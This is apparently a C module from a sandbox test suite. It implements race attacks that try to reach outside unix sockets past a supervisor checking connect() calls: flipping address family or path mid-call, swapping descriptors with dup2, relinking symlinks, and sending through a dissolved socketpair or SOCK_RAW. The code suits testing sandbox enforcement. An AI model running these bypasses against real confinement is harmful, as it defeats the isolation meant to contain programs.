/*
 * attack_unix: ways to a unix socket of the outside past somebody who looks at the call before it is made: the address
 * or the descriptor is another by the time it counts, or there is no connection to look at.
 */
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>
#include "attack.h"

#define SOME_MS    300 /* a race is run so long, */
#define LONG_MS    1500 /* and so long if nothing got anywhere */
#define SWAPPED_FD 100

struct race {
    struct sockaddr_un at;
    const char *names[2];
    int sockets[2];
    int over;
};

static struct sockaddr_un address_of(const char *path)
{
    struct sockaddr_un at = {.sun_family = AF_UNIX};
    snprintf(at.sun_path, sizeof at.sun_path, "%s", path);
    return at;
}

static int listen_at(const char *path)
{
    struct sockaddr_un at = address_of(path);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    return bind(fd, (struct sockaddr *)&at, sizeof at) < 0 || listen(fd, 4000) < 0 ? -1 : fd;
}

static bool is_over(const struct race *r)
{
    return __atomic_load_n(&r->over, __ATOMIC_RELAXED);
}

static void *flip_family(void *context)
{
    struct race *r = context;
    for (unsigned i = 0; !is_over(r); i++)
        __atomic_store_n(&r->at.sun_family, i % 2 ? AF_UNIX : AF_INET, __ATOMIC_RELAXED);
    return NULL;
}

static void *flip_path(void *context)
{
    struct race *r = context;
    for (unsigned i = 0; !is_over(r); i++)
        memcpy(r->at.sun_path, r->names[i % 2], strlen(r->names[i % 2]) + 1);
    return NULL;
}

static void *swap_descriptor(void *context)
{
    struct race *r = context;
    for (unsigned i = 0; !is_over(r); i++)
        dup2(r->sockets[i % 2], SWAPPED_FD);
    return NULL;
}

static long now_ms(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* Whether it got there is for the one outside to see: here a connection may as well be one to the decoy. */
static struct outcome run_race(struct race *r, void *(*other)(void *))
{
    long start = now_ms();
    pthread_t thread;
    int good = 0;
    if (pthread_create(&thread, NULL, other, r) != 0)
        return outcome_cannot();
    while (now_ms() - start < (good ? SOME_MS : LONG_MS)) {
        int fd = other == swap_descriptor ? SWAPPED_FD : socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
        good += connect(fd, (struct sockaddr *)&r->at, sizeof r->at) == 0;
        if (fd != SWAPPED_FD)
            close(fd);
    }
    __atomic_store_n(&r->over, 1, __ATOMIC_RELAXED);
    pthread_join(thread, NULL);
    return good ? outcome_done() : outcome_errno(EACCES);
}

static struct outcome u_family(char **a) /* NAME */
{
    struct race r = {.at = address_of(a[0])};
    return run_race(&r, flip_family);
}

static struct outcome u_path(char **a) /* NAME DECOY: a name in the workspace, where we listen ourselves */
{
    struct race r = {.at = address_of(a[1]), .names = {a[0], a[1]}};
    return listen_at(a[1]) < 0 ? outcome_errno(errno) : run_race(&r, flip_path);
}

static struct outcome u_descriptor(char **a) /* NAME */
{
    struct race r = {.at = address_of(a[0]),
        .sockets = {socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0), socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0)}};
    if (dup2(r.sockets[1], SWAPPED_FD) < 0)
        return outcome_errno(errno);
    return run_race(&r, swap_descriptor);
}

static void *relink(void *context)
{
    struct race *r = context;
    for (unsigned i = 0; !is_over(r); i++) {
        unlink(r->at.sun_path);
        if (symlink(r->names[i % 2], r->at.sun_path) != 0)
            continue;
    }
    return NULL;
}

static struct outcome u_link(char **a) /* NAME DECOY LINK: a symbolic link that leads to the one or the other */
{
    struct race r = {.at = address_of(a[2]), .names = {a[0], a[1]}};
    return listen_at(a[1]) < 0 ? outcome_errno(errno) : run_race(&r, relink);
}

static struct outcome u_pair(char **a) /* NAME: sent by one end of a pair, which never connects */
{
    struct sockaddr_un at = address_of(a[0]);
    int ends[2];
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, ends) < 0)
        return outcome_errno(errno);
    /* A pair's end has its peer; dissolved, it may send to anybody. */
    struct sockaddr none = {.sa_family = AF_UNSPEC};
    if (connect(ends[0], &none, sizeof none) < 0)
        return outcome_errno(errno);
    return outcome_of(sendto(ends[0], "attacked", 8, MSG_NOSIGNAL, (struct sockaddr *)&at, sizeof at));
}

static struct outcome u_raw(char **a) /* NAME: SOCK_RAW, which is another word for datagrams here */
{
    struct sockaddr_un at = address_of(a[0]);
    int fd = socket(AF_UNIX, SOCK_RAW, 0);
    if (fd < 0)
        return outcome_errno(errno);
    return outcome_of(sendto(fd, "attacked", 8, MSG_NOSIGNAL, (struct sockaddr *)&at, sizeof at));
}

const struct verb verbs_unix[] = {
    {"unix-flip-family", 1, u_family},
    {"unix-flip-path", 2, u_path},
    {"unix-swap-descriptor", 1, u_descriptor},
    {"unix-flip-link", 3, u_link},
    {"unix-pair", 1, u_pair},
    {"unix-raw", 1, u_raw},
    {NULL, 0, NULL},
};
